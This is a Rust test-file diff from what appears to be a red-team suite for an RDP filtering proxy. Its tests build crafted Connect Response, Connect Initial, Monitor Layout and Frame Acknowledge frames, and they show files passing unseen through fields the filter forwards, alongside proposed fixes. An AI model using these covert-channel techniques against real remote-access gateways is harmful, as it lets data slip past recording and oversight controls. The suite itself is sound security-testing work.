@@ -117,3 +117,230 @@ fn red17r_target_io(user_data: Vec<u8>) -> Vec<u8> {
     encode_vec(&X224(SendDataIndication { initiator_id: 1002, channel_id: 1003, user_data: Cow::Owned(user_data) }))
         .unwrap()
 }
+
+fn vector(text: &str) -> Vec<u8> {
+    hex::decode(text.trim()).unwrap()
+}
+
+/// FreeRDP's reading of the server's user data blocks (`gcc_read_server_data_blocks`): each
+/// block by its length, those of a type it does not know logged and skipped. A patched client
+/// keeps their bodies instead.
+fn freerdp_unknown_server_blocks(blocks: &[u8]) -> Vec<Vec<u8>> {
+    let mut unknown = Vec::new();
+    let mut at = 0;
+    while at + 4 <= blocks.len() {
+        let kind = u16::from_le_bytes([blocks[at], blocks[at + 1]]);
+        let len = usize::from(u16::from_le_bytes([blocks[at + 2], blocks[at + 3]]));
+        if len < 4 || at + len > blocks.len() {
+            break;
+        }
+        if !matches!(kind, 0x0C01 | 0x0C02 | 0x0C03 | 0x0C04 | 0x0C08) {
+            unknown.push(blocks[at + 4..at + len].to_vec());
+        }
+        at += len;
+    }
+    unknown
+}
+
+/// Hole 2: the target's Connect Response reaches the client unchanged, whatever it holds besides
+/// what the filter reads. `connect_response` decodes it to learn the channel ids and returns
+/// `Verdict::Forward`; IronRDP's `ServerGccBlocks` skips a user data block of a type it does not
+/// know ("forward-compat"), and FreeRDP walks blocks by their length. So a hostile target puts a
+/// file in a block of its own (type 0x0CFF here) and the client receives it, before the
+/// recording starts, with no refusal and nothing stated. The same holds for the Connect
+/// Response's own free fields (calledConnectId, the eight domain parameters, the GCC node id
+/// and tag) and a security block's server random and certificate on a leg without RDP
+/// security. Here ~30 KiB cross in one response (up to a TPKT's ~64 KiB a connection, and the
+/// client reconnects as often as it likes). Fix shape: the client gets the Connect Response
+/// re-encoded by the box — the blocks it reads (core, network, security with no encryption,
+/// message channel), nothing else, the fixed fields the box's.
+#[test]
+fn red17s_the_connect_response_carries_a_file_to_the_client_in_a_block_no_one_reads() {
+    use ironrdp_pdu::gcc::{ConferenceCreateResponse, EncryptionLevel, EncryptionMethod};
+    let initial = vector(include_str!("testdata/connect_initial_freerdp2.hex"));
+    let response = vector(include_str!("testdata/connect_response_shadow2.hex"));
+    let x224 = decode::<X224<X224Data<'_>>>(&response).unwrap();
+    let mut read = decode::<ConnectResponse>(&x224.0.data).unwrap();
+    let payload = file(30_000);
+    // A security block long enough to hold the file, written by IronRDP so every outer length
+    // is right; then cut in place into a security block saying "no encryption" and a block of
+    // an unknown type holding the file.
+    let mut blocks: ServerGccBlocks = read.conference_create_response.gcc_blocks().clone();
+    blocks.security = ServerSecurityData {
+        encryption_method: EncryptionMethod::BIT_128,
+        encryption_level: EncryptionLevel::ClientCompatible,
+        server_random: Some([0x55; 32]),
+        server_cert: vec![0xAA; payload.len() - 36],
+    };
+    read.conference_create_response = ConferenceCreateResponse::new(0x79F3, blocks).unwrap();
+    let data = encode_vec(&read).unwrap();
+    let mut frame = encode_vec(&X224(X224Data { data: Cow::Owned(data) })).unwrap();
+    let block_len = 4 + 16 + 32 + payload.len() - 36;
+    let header = [&[0x02, 0x0C][..], &u16::try_from(block_len).unwrap().to_le_bytes(), &[2, 0, 0, 0, 2, 0, 0, 0]].concat();
+    let at = frame.windows(header.len()).position(|w| w == header).expect("the security block");
+    let mut cut = vec![0x02, 0x0C, 12, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+    cut.extend([0xFF, 0x0C]);
+    cut.extend(u16::try_from(block_len - 12).unwrap().to_le_bytes());
+    cut.extend(&payload);
+    assert_eq!(cut.len(), block_len);
+    frame[at..at + block_len].copy_from_slice(&cut);
+
+    let mut f = Filter::new(SecurityProtocol::HYBRID, Redirection::NONE, injection());
+    assert!(matches!(f.from_client(&initial).unwrap(), Verdict::Replace(_)));
+    let verdict = f.from_target(&frame).unwrap();
+    assert_eq!(verdict, Verdict::Forward, "the connect response passes unchanged");
+    assert!(f.channels_known(), "the filter read it (and learnt the channel ids)");
+    // The client walks the blocks: the file is a block of its own.
+    let start = frame.len() - (block_len + 6 + 16 + 16);
+    let unknown = freerdp_unknown_server_blocks(&frame[start..]);
+    assert_eq!(unknown, vec![payload.clone()], "the client reads the whole file");
+    assert!(carries(&verdict, &frame, &payload));
+
+    // The fixed fields too: calledConnectId and the eight domain parameters, 36 free bytes a
+    // response, forwarded as the target wrote them.
+    let x224 = decode::<X224<X224Data<'_>>>(&response).unwrap();
+    let mut read = decode::<ConnectResponse>(&x224.0.data).unwrap();
+    let w = words(&payload[..36], 4);
+    read.called_connect_id = w[0];
+    let p = &mut read.domain_parameters;
+    (p.max_channel_ids, p.max_user_ids, p.max_token_ids, p.num_priorities) = (w[1], w[2], w[3], w[4]);
+    (p.min_throughput, p.max_height, p.max_mcs_pdu_size, p.protocol_version) = (w[5], w[6], w[7], w[8]);
+    let data = encode_vec(&read).unwrap();
+    let frame = encode_vec(&X224(X224Data { data: Cow::Owned(data) })).unwrap();
+    let mut f = Filter::new(SecurityProtocol::HYBRID, Redirection::NONE, injection());
+    f.from_client(&initial).unwrap();
+    assert_eq!(f.from_target(&frame).unwrap(), Verdict::Forward, "free fields pass as written");
+}
+
+/// Hole 3: the Connect Initial reaches the target re-encoded but with every field of the
+/// client's core, cluster, monitor and extended monitor blocks as the client wrote them, the
+/// box changing only the protocol, the redirection flag, the multitransport block and two
+/// early capability flags. The box replaced what the client says of itself in the Client Info
+/// (red team `h-red31`, hole 4; red team `h-red17m`, hole 6), and the Connect Initial says as
+/// much again: clientName (15 characters), imeFileName (31), clientDigProductId (31),
+/// keyboardLayout, clientBuild, keyboardSubType, keyboardFunctionKey, serialNumber,
+/// clientProductId (~200 bytes), any program on the target reads (WTSQuerySessionInformation:
+/// WTSClientName, WTSClientBuildNumber, WTSClientProductId, WTSClientHardwareId; Windows puts
+/// CLIENTNAME in every process' environment; xrdp passes the client name and keyboard to the
+/// session). The cluster block's redirectedSessionId with REDIRECTED_SESSIONID_FIELD_VALID
+/// also passes: the client, not the box, picks which of the target account's sessions it joins
+/// (the console with FreeRDP's `/admin`). Once a connection, on any grant, reconnecting at will.
+/// Fix shape: the box writes the Connect Initial's blocks itself as it writes the Client Info —
+/// the client's desktop size, colour depths and monitors (bounded, checked), the box's name,
+/// build and product fields, an empty IME file and product id, no cluster session id.
+#[test]
+fn red17s_the_connect_initial_carries_what_the_client_says_of_itself_to_the_target() {
+    use ironrdp_pdu::gcc::ClientClusterData;
+    let initial = vector(include_str!("testdata/connect_initial_freerdp2.hex"));
+    let x224 = decode::<X224<X224Data<'_>>>(&initial).unwrap();
+    let mut read = decode::<ConnectInitial>(&x224.0.data).unwrap();
+    let mut blocks = read.conference_create_request.into_gcc_blocks();
+    let secret = "s3cr3t-exfil-0123456789abcdefXYZ";
+    blocks.core.client_name = secret[..15].to_owned();
+    blocks.core.ime_file_name = secret[..31].to_owned();
+    blocks.core.optional_data.dig_product_id = Some(secret[1..32].to_owned());
+    (blocks.core.keyboard_layout, blocks.core.client_build) = (0xDEAD_BEEF, 0x0BAD_CAFE);
+    (blocks.core.keyboard_subtype, blocks.core.keyboard_functional_keys_count) = (0x1234_5678, 0x9ABC_DEF0);
+    blocks.core.optional_data.serial_number = Some(0x0F1E_2D3C);
+    blocks.cluster = Some(ClientClusterData {
+        flags: RedirectionFlags::REDIRECTED_SESSION_FIELD_VALID,
+        redirection_version: blocks.cluster.as_ref().map_or(
+            ironrdp_pdu::gcc::RedirectionVersion::V4,
+            |c| c.redirection_version,
+        ),
+        redirected_session_id: 0x00C0_FFEE,
+    });
+    read.conference_create_request = ConferenceCreateRequest::new(blocks.clone()).unwrap();
+    let data = encode_vec(&read).unwrap();
+    let frame = encode_vec(&X224(X224Data { data: Cow::Owned(data) })).unwrap();
+
+    let mut f = Filter::new(SecurityProtocol::HYBRID, Redirection::NONE, injection());
+    let Verdict::Replace(out) = f.from_client(&frame).unwrap() else { panic!("connect initial not rewritten") };
+    let x224 = decode::<X224<X224Data<'_>>>(&out).unwrap();
+    let got = decode::<ConnectInitial>(&x224.0.data).unwrap().conference_create_request.into_gcc_blocks();
+    // What the target (and any program there) reads: the client's words, every one.
+    assert_eq!(got.core.client_name, secret[..15]);
+    assert_eq!(got.core.ime_file_name, secret[..31]);
+    assert_eq!(got.core.optional_data.dig_product_id.as_deref(), Some(&secret[1..32]));
+    assert_eq!((got.core.keyboard_layout, got.core.client_build), (0xDEAD_BEEF, 0x0BAD_CAFE));
+    assert_eq!((got.core.keyboard_subtype, got.core.keyboard_functional_keys_count), (0x1234_5678, 0x9ABC_DEF0));
+    assert_eq!(got.core.optional_data.serial_number, Some(0x0F1E_2D3C));
+    let cluster = got.cluster.expect("the cluster block");
+    assert!(cluster.flags.contains(RedirectionFlags::REDIRECTED_SESSION_FIELD_VALID));
+    assert_eq!(cluster.redirected_session_id, 0x00C0_FFEE, "the client picks the target's session");
+    // Control: what the box does rewrite.
+    assert!(!cluster.flags.contains(RedirectionFlags::REDIRECTION_SUPPORTED));
+    assert!(got.multi_transport_channel.is_none());
+}
+
+/// A Share Data PDU of `pdu_type2` from `source` (stream 1, uncompressed) around `body`.
+fn share_data(source: u16, pdu_type2: u8, body: &[u8]) -> Vec<u8> {
+    let total = u16::try_from(18 + body.len()).unwrap();
+    let mut pdu = total.to_le_bytes().to_vec();
+    pdu.extend(0x0017u16.to_le_bytes());
+    pdu.extend(source.to_le_bytes());
+    pdu.extend(0x0001_03EAu32.to_le_bytes());
+    pdu.extend([0, 1]);
+    pdu.extend(u16::try_from(4 + body.len()).unwrap().to_le_bytes());
+    pdu.extend([pdu_type2, 0, 0, 0]);
+    pdu.extend(body);
+    pdu
+}
+
+fn client_io(user_data: Vec<u8>) -> Vec<u8> {
+    encode_vec(&X224(SendDataRequest { initiator_id: 1007, channel_id: 1003, user_data: Cow::Owned(user_data) }))
+        .unwrap()
+}
+
+/// Hole 4: two Share Data PDUs the filter re-encodes keep every field as the sender wrote it, as
+/// often as the sender likes. (a) The target's Monitor Layout (pduType2 0x37) is passed with up
+/// to 16 monitors: 4 coordinates and a flags word each (IronRDP keeps unknown flag bits, and no
+/// one checks a coordinate), 320 free bytes a PDU. A server sends one, after the Demand Active,
+/// describing the monitors the client announced; the filter neither counts them nor compares
+/// them with the client's monitor block (it knows `client_monitors`). FreeRDP hands each one
+/// to the client's `DisplayControlMonitorLayout` callback. (b) The client's Frame Acknowledge
+/// (0x38: frameId, 4 bytes) is passed for any id, with no Frame Marker sent and none
+/// negotiated; xrdp reads it (`xrdp_rdp_process_frame_ack`) as Windows does. Here 16 KiB of a
+/// file reaches the client in 52 Monitor Layouts and 4 KiB the target in 1,024 Frame
+/// Acknowledges, after activation, on a grant with nothing, unstated. Fix shape: one Monitor
+/// Layout an activation, equal to (or re-written from) the client's monitor block; a Frame
+/// Acknowledge only for a frame id the target's Frame Markers sent, in order, once.
+#[test]
+fn red17s_monitor_layouts_and_frame_acknowledgements_carry_a_file() {
+    let payload = file(16_000);
+    let mut f = active();
+    let mut to_client: Vec<u8> = Vec::new();
+    for piece in payload.chunks(320) {
+        let monitors = piece.len().div_ceil(20);
+        let mut body = u32::try_from(monitors).unwrap().to_le_bytes().to_vec();
+        body.extend(piece);
+        body.resize(4 + 20 * monitors, 0);
+        let frame = red17r_target_io(share_data(1002, 0x37, &body));
+        let verdict = f.from_target(&frame).unwrap();
+        assert!(!refused(&verdict), "a monitor layout after activation: {verdict:?}");
+        assert!(carries(&verdict, &frame, piece), "the client gets it as the target wrote it");
+        let out = match &verdict {
+            Verdict::Replace(out) => out.clone(),
+            _ => frame.clone(),
+        };
+        // The monitors, read as FreeRDP reads them: after the Share Data header.
+        let at = out.windows(body.len()).position(|w| w == body).unwrap();
+        to_client.extend(&out[at + 4..at + 4 + piece.len()]);
+    }
+    assert_eq!(to_client, payload, "the whole file reached the client");
+
+    let payload = file(4096);
+    let mut to_target = Vec::new();
+    for (i, id) in words(&payload, 4).into_iter().enumerate() {
+        let frame = client_io(share_data(1007, 0x38, &id.to_le_bytes()));
+        let verdict = f.from_client(&frame).unwrap();
+        assert!(!refused(&verdict), "frame acknowledge {i}: {verdict:?}");
+        assert!(carries(&verdict, &frame, &[0x38, 0, 0, 0]) && carries(&verdict, &frame, &id.to_le_bytes()));
+        to_target.extend(id.to_le_bytes());
+    }
+    assert_eq!(to_target, payload);
+    // Control: a Monitor Layout of 17 monitors is refused.
+    let mut body = 17u32.to_le_bytes().to_vec();
+    body.resize(4 + 20 * 17, 0);
+    assert!(refused(&f.from_target(&red17r_target_io(share_data(1002, 0x37, &body))).unwrap()));
+}
